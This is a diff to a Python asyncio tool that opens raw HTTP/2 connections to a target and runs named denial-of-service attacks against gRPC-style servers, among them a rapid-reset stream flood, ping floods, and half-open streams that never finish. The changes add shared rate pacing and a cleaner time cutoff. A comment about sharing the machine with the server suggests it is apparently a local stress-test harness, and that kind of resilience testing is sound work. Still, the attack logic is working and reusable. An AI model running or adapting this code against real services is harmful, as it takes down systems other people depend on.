@@ -12,7 +12,6 @@ import struct
 import sys
 import time
 from collections.abc import Callable, Coroutine
-from contextlib import suppress
 from dataclasses import asdict, dataclass, field
 from typing import Any
 
@@ -28,7 +27,9 @@ MESSAGE_BYTES = 15 << 20
 @dataclass(frozen=True)
 class Plan:
     """kind: a name of ATTACKS. paths: of the RPCs, in turn. token: "" for none. streams: open at once on a connection;
-    fewer where the server says so. first: a whole message that comes before the one that never ends; hex."""
+    fewer where the server says so. per_second: calls or pings of all connections together, bytes_per_second: of their
+    messages (a gigabit line): the attacker shares the machine with the server, and must not be what it waits for.
+    first: a whole message that comes before the one that never ends; hex."""
 
     kind: str
     paths: list[str]
@@ -36,6 +37,8 @@ class Plan:
     connections: int = 4
     streams: int = 1000
     seconds: float = 2.0
+    per_second: int = 5000
+    bytes_per_second: int = 125_000_000
     first: str = ""
 
 
@@ -52,9 +55,35 @@ class Lost(Exception):
     """The server ended the connection."""
 
 
+class Over(Exception):
+    """The attack's time has passed."""
+
+
+class Pace:
+    """Keeps all connections of an attack to its rates, until it is over."""
+
+    def __init__(self, plan: Plan) -> None:
+        self._plan = plan
+        self._began = time.monotonic()
+        self._spent = 0.0  # seconds
+
+    @property
+    def over(self) -> bool:
+        return time.monotonic() - self._began >= self._plan.seconds
+
+    async def spend(self, calls: int = 0, count: int = 0) -> None:
+        """Before so many calls, or bytes of messages, more."""
+        self._spent = max(self._spent, time.monotonic() - self._began - 0.02)  # what was not used is not kept
+        self._spent += calls / self._plan.per_second + count / self._plan.bytes_per_second
+        if self.over:
+            raise Over
+        await asyncio.sleep(max(self._spent - (time.monotonic() - self._began), 0.0))
+
+
 class Connection:
-    def __init__(self, target: str, plan: Plan, sent: Sent) -> None:
+    def __init__(self, target: str, plan: Plan, pace: Pace, sent: Sent) -> None:
         self._target = target
+        self._pace = pace
         self._plan = plan
         self._sent = sent
         self._next = 1
@@ -67,9 +96,9 @@ class Connection:
         self._reader: asyncio.StreamReader
         self._writer: asyncio.StreamWriter
 
-    async def run(self, until: float) -> None:
-        """Attacks until then; comes again when it is thrown out."""
-        while time.monotonic() < until:
+    async def run(self) -> None:
+        """Attacks until it is over; comes again when it is thrown out."""
+        while not self._pace.over:
             host, _, port = self._target.rpartition(":")
             self._next, self._window, self._why = 1, 65535, ""
             self._windows.clear()
@@ -81,14 +110,14 @@ class Connection:
             listening = asyncio.create_task(self._listen())
             try:
                 self._writer.write(PREFACE + _frame(SETTINGS, 0, 0))
-                await asyncio.wait_for(ATTACKS[self._plan.kind](self), until - time.monotonic())
-            except asyncio.TimeoutError:
-                break
+                await ATTACKS[self._plan.kind](self)
+            except Over:
+                return
             except (OSError, Lost):
                 self._sent.lost[self._why or "closed"] = self._sent.lost.get(self._why or "closed", 0) + 1
             finally:
                 listening.cancel()
-                self._writer.close()
+                self._writer.transport.abort()
 
     async def half_open(self) -> None:
         """Headers, and nothing after them."""
@@ -117,6 +146,9 @@ class Connection:
                     continue
                 count = min(self._window, self._windows[stream], rest[stream], MAX_FRAME_BYTES)
                 if count > 0:
+                    await self._pace.spend(count=count)
+                    if stream not in self._windows:
+                        continue
                     self._writer.write(_frame(DATA, 0, stream, bytes(count)))
                     self._window -= count
                     self._windows[stream] -= count
@@ -129,8 +161,9 @@ class Connection:
 
     async def rapid_reset(self) -> None:
         while True:
+            await self._pace.spend(calls=64)
             for _ in range(64):
-                stream = await self._begin(drain=False)
+                stream = await self._begin(paced=True)
                 self._writer.write(_frame(RESET, 0, stream, struct.pack(">I", 8)))
                 self._windows.pop(stream, None)
                 self._sent.resets += 1
@@ -138,11 +171,14 @@ class Connection:
 
     async def ping(self) -> None:
         while True:
+            await self._pace.spend(calls=64)
             self._writer.write(_frame(PING, 0, 0, bytes(8)) * 64)
             self._sent.pings += 64
             await self._drain()
 
-    async def _begin(self, *, drain: bool = True) -> int:
+    async def _begin(self, *, paced: bool = False) -> int:
+        if not paced:
+            await self._pace.spend(calls=1)
         path = self._plan.paths[self._sent.calls % len(self._plan.paths)]
         headers = {
             ":method": "POST",
@@ -159,7 +195,7 @@ class Connection:
         self._windows[stream] = self._stream_window
         self._writer.write(_frame(HEADERS, END_HEADERS, stream, block))
         self._sent.calls += 1
-        if drain:
+        if not paced:
             await self._drain()
         return stream
 
@@ -168,9 +204,13 @@ class Connection:
             await self._wait()
 
     async def _wait(self) -> None:
+        """For something to come from the server, or a moment."""
+        if self._pace.over:
+            raise Over
         self._changed.clear()
-        with suppress(asyncio.TimeoutError):
-            await asyncio.wait_for(self._changed.wait(), 0.05)
+        waiter = asyncio.ensure_future(self._changed.wait())
+        await asyncio.wait([waiter], timeout=0.05)
+        waiter.cancel()
         if self._why:
             raise Lost
 
@@ -228,8 +268,8 @@ ATTACKS: dict[str, Callable[[Connection], Coroutine[Any, Any, None]]] = {
 
 
 async def attack(target: str, plan: Plan) -> Sent:
-    sent, until = Sent(), time.monotonic() + plan.seconds
-    await asyncio.gather(*(Connection(target, plan, sent).run(until) for _ in range(plan.connections)))
+    sent, pace = Sent(), Pace(plan)
+    await asyncio.gather(*(Connection(target, plan, pace, sent).run() for _ in range(plan.connections)))
     return sent
 
 
